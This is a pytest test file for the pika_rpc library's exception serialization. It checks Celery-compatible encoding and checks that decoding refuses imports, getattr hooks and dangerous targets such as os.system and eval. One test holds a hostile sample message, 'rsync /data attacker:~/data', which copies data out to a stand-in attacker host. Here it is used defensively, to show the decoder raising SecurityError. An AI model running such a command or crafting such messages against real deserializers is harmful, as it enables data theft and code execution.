"""Exceptions in results (``docs/wire-format.rst``, Exceptions): encoding, and rebuilding
without any import."""

from __future__ import annotations

import sys
import types

import pytest

from pika_rpc import errors, serialization
from pika_rpc.errors import DecodeError, SecurityError
from pika_rpc.serialization import exception_from_dict, exception_to_dict


class Outer:
    class InnerError(Exception):
        pass


class LocalError(Exception):
    pass


def test_a_builtin_exception_is_encoded_as_celery_does():
    assert exception_to_dict(ValueError('bad')) == {
        'exc_type': 'ValueError',
        'exc_message': ['bad'],
        'exc_module': 'builtins',
    }


def test_a_nested_class_is_encoded_with_its_dotted_qualname():
    encoded = exception_to_dict(Outer.InnerError('x'))
    assert (encoded['exc_type'], encoded['exc_module']) == ('Outer.InnerError', __name__)


def test_an_argument_that_does_not_serialize_becomes_its_repr():
    encoded = exception_to_dict(KeyError({1, 2}, 'ok'))
    assert encoded['exc_message'] == ['{1, 2}', 'ok']


def test_pika_rpc_copies_of_celery_exceptions_are_written_as_celery_classes():
    assert exception_to_dict(errors.TaskRevokedError('revoked')) == {
        'exc_type': 'TaskRevokedError',
        'exc_message': ['revoked'],
        'exc_module': 'celery.exceptions',
    }


def test_backlog_limit_exceeded_is_written_in_celerys_rpc_backend_module():
    encoded = exception_to_dict(errors.BacklogLimitExceeded('t1'))
    assert (encoded['exc_type'], encoded['exc_module']) == (
        'BacklogLimitExceeded',
        'celery.backends.rpc',
    )


def test_a_null_exception_means_no_exception():
    assert exception_from_dict(None) is None


def test_a_builtin_exception_is_rebuilt_with_its_args():
    exc = exception_from_dict(
        {'exc_type': 'KeyError', 'exc_message': ['missing'], 'exc_module': 'builtins'}
    )
    assert type(exc) is KeyError and exc.args == ('missing',)


def test_an_unknown_exception_is_synthesized_with_the_same_name_and_args():
    exc = exception_from_dict(
        {'exc_type': 'PaymentDeclined', 'exc_module': 'shop.errors', 'exc_message': ['card', 42]}
    )
    assert type(exc).__name__ == 'PaymentDeclined'
    assert isinstance(exc, Exception) and exc.args == ('card', 42)


def test_a_synthesized_class_carries_the_module_named_in_the_message():
    exc = exception_from_dict(
        {'exc_type': 'PaymentDeclined', 'exc_module': 'shop.errors', 'exc_message': []}
    )
    assert type(exc).__module__ == 'shop.errors'


def test_the_same_unknown_name_gives_the_same_class_each_time():
    message = {'exc_type': 'Overdrawn', 'exc_module': 'bank.errors', 'exc_message': []}
    assert type(exception_from_dict(message)) is type(exception_from_dict(message))


def test_a_synthesized_exception_encodes_back_to_the_same_names():
    message = {'exc_type': 'Outer.Gone', 'exc_module': 'shop.errors', 'exc_message': ['a']}
    assert exception_to_dict(exception_from_dict(message)) == message


def test_a_null_exc_module_synthesizes_in_the_serialization_module():
    exc = exception_from_dict({'exc_type': 'Weird', 'exc_module': None, 'exc_message': []})
    assert type(exc).__module__ == 'pika_rpc.serialization'


@pytest.mark.parametrize(
    'name,module',
    [
        ('TaskRevokedError', 'celery.exceptions'),
        ('TimeLimitExceeded', 'celery.exceptions'),
        ('SoftTimeLimitExceeded', 'celery.exceptions'),
        ('WorkerLostError', 'celery.exceptions'),
        ('BacklogLimitExceeded', 'celery.backends.rpc'),
        ('TimeLimitExceeded', 'billiard.exceptions'),
        ('WorkerLostError', 'billiard.exceptions'),
    ],
)
def test_celery_exception_names_map_to_pika_rpc_errors(name, module):
    exc = exception_from_dict({'exc_type': name, 'exc_module': module, 'exc_message': ['x']})
    assert type(exc) is errors.CELERY_EXCEPTIONS[name]


def test_pika_rpc_error_classes_are_found_by_name():
    exc = exception_from_dict(
        {'exc_type': 'PublishError', 'exc_module': 'pika_rpc.errors', 'exc_message': ['nacked']}
    )
    assert type(exc) is errors.PublishError


def test_a_registered_class_is_found_even_when_its_module_is_not_loaded():
    cls = type('Custom', (Exception,), {'__module__': 'not.loaded.anywhere'})
    serialization.register_exception(cls)
    try:
        exc = exception_from_dict(
            {'exc_type': 'Custom', 'exc_module': 'not.loaded.anywhere', 'exc_message': [1]},
            allow_loaded_modules=False,
        )
    finally:
        serialization.unregister_exception(cls)
    assert type(exc) is cls


def test_register_exception_refuses_a_class_that_is_not_an_exception():
    with pytest.raises(TypeError):
        serialization.register_exception(dict)


def test_a_class_in_an_already_loaded_module_is_found_by_walking_its_dotted_name():
    exc = exception_from_dict(
        {'exc_type': 'Outer.InnerError', 'exc_module': __name__, 'exc_message': ['x']}
    )
    assert type(exc) is Outer.InnerError


def test_loaded_modules_are_not_searched_when_disallowed():
    exc = exception_from_dict(
        {'exc_type': 'LocalError', 'exc_module': __name__, 'exc_message': []},
        allow_loaded_modules=False,
    )
    assert type(exc) is not LocalError and type(exc).__name__ == 'LocalError'


def test_a_module_named_in_a_message_is_never_imported(tmp_path, monkeypatch):
    marker = tmp_path / 'imported.marker'
    (tmp_path / 'pikarpc_trap_module.py').write_text(
        f'open({str(marker)!r}, "w").close()\nclass TrapError(Exception):\n    pass\n'
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    exc = exception_from_dict(
        {'exc_type': 'TrapError', 'exc_module': 'pikarpc_trap_module', 'exc_message': ['x']}
    )
    assert type(exc).__name__ == 'TrapError'
    assert not marker.exists()
    assert 'pikarpc_trap_module' not in sys.modules


def test_a_loaded_modules_getattr_hook_is_never_run(monkeypatch):
    calls = []
    module = types.ModuleType('pikarpc_lazy_module')
    module.__getattr__ = lambda name: calls.append(name) or ValueError
    monkeypatch.setitem(sys.modules, 'pikarpc_lazy_module', module)
    exc = exception_from_dict(
        {'exc_type': 'Lazy', 'exc_module': 'pikarpc_lazy_module', 'exc_message': []}
    )
    assert calls == [] and type(exc).__name__ == 'Lazy'


def test_os_system_is_a_security_error():
    with pytest.raises(SecurityError, match='Expected an exception class, got os.system'):
        exception_from_dict(
            {'exc_type': 'system', 'exc_module': 'os', 'exc_message': 'rsync /data attacker:~/data'}
        )


def test_builtins_object_is_a_security_error():
    with pytest.raises(SecurityError, match='got builtins.object with payload'):
        exception_from_dict({'exc_type': 'object', 'exc_module': 'builtins', 'exc_message': []})


def test_builtins_eval_is_a_security_error():
    with pytest.raises(SecurityError):
        exception_from_dict({'exc_type': 'eval', 'exc_module': 'builtins', 'exc_message': ['1']})


def test_a_non_dict_exception_is_a_decode_error():
    with pytest.raises(DecodeError):
        exception_from_dict(['ValueError', 'bad'])


def test_a_dict_without_exc_type_is_a_decode_error():
    with pytest.raises(DecodeError, match='exception type'):
        exception_from_dict({'exc_message': ['bad'], 'exc_module': 'builtins'})


def test_a_non_string_exc_module_is_a_decode_error():
    with pytest.raises(DecodeError):
        exception_from_dict({'exc_type': 'X', 'exc_module': 5, 'exc_message': []})


def test_a_name_no_class_can_have_is_a_decode_error():
    with pytest.raises(DecodeError):
        exception_from_dict({'exc_type': 'Bad\x00Name', 'exc_module': 'x', 'exc_message': []})


def test_a_non_list_exc_message_is_passed_as_one_argument():
    exc = exception_from_dict(
        {'exc_type': 'ValueError', 'exc_module': 'builtins', 'exc_message': 'just text'}
    )
    assert exc.args == ('just text',)


def test_a_constructor_that_fails_gives_a_plain_exception_naming_the_class():
    exc = exception_from_dict(
        {'exc_type': 'UnicodeDecodeError', 'exc_module': 'builtins', 'exc_message': ['only one']}
    )
    assert type(exc) is Exception and 'UnicodeDecodeError' in str(exc)


@pytest.mark.parametrize('name', ['SystemExit', 'KeyboardInterrupt', 'GeneratorExit'])
def test_base_exceptions_that_would_stop_the_reader_are_refused(name):
    with pytest.raises(SecurityError):
        exception_from_dict({'exc_type': name, 'exc_module': 'builtins', 'exc_message': []})
